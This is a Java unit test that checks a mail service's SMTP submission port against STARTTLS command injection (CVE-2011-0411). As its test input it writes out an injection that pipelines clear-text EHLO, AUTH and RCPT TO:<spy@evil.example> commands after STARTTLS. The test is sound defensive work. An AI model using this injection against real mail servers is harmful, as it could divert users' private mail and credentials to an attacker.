package dev.masq.mail.submission;

import static dev.masq.testing.Messages.bytes;
import static org.assertj.core.api.Assertions.assertThat;

import dev.masq.mail.reply.OutboundFixture;
import dev.masq.testing.DownstreamSmtpServer.Received;
import dev.masq.testing.SmtpClient;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** STARTTLS command injection (CVE-2011-0411) on the submission port: an attacker's clear-text transaction never joins the user's. */
class SubmissionStartTlsInjectionTest {
    @TempDir
    Path dir;
    OutboundFixture f;
    AppPasswords.Issued password;

    @BeforeEach
    void setUp() throws Exception {
        f = new OutboundFixture(dir, Map.of());
        f.masq.alias("shop");
        password = f.masq.appPasswords().create(f.masq.userId, "laptop");
    }

    @AfterEach
    void tearDown() throws Exception {
        f.close();
    }

    @Test
    void commandsSentInClearWithStartTlsAreDroppedAndTheUsersMessageGoesOnlyWhereTheUserSentIt() {
        try (SmtpClient smtp = SmtpClient.connect(f.masq.submissionPort())) {
            smtp.expect(220, smtp.reply());
            smtp.expect(250, smtp.command("EHLO client.example"));
            smtp.write("STARTTLS\r\nEHLO evil.example\r\nAUTH PLAIN " + plain(password.password()) + "\r\n"
                    + "MAIL FROM:<" + OutboundFixture.INBOX + ">\r\nRCPT TO:<spy@evil.example>\r\n");
            smtp.expect(220, smtp.reply());
            smtp.handshake(tls -> { });
            assertThat(smtp.expect(250, smtp.command("EHLO client.example")).text()).contains("AUTH LOGIN PLAIN");
            smtp.expect(235, smtp.command("AUTH PLAIN " + plain(password.password())));
            assertThat(smtp.send(OutboundFixture.INBOX, List.of("sales@shop.example"),
                    bytes("From: shop@mask.test\r\nTo: sales@shop.example\r\nSubject: private\r\n\r\nHello.\r\n")).code())
                    .isEqualTo(250);
        }
        Received out = f.awaitReceived(1).getFirst();
        assertThat(out.recipients()).containsExactly("sales@shop.example");
    }

    private static String plain(String secret) {
        return Base64.getEncoder().encodeToString(("\0" + OutboundFixture.INBOX + "\0" + secret).getBytes(StandardCharsets.UTF_8));
    }
}
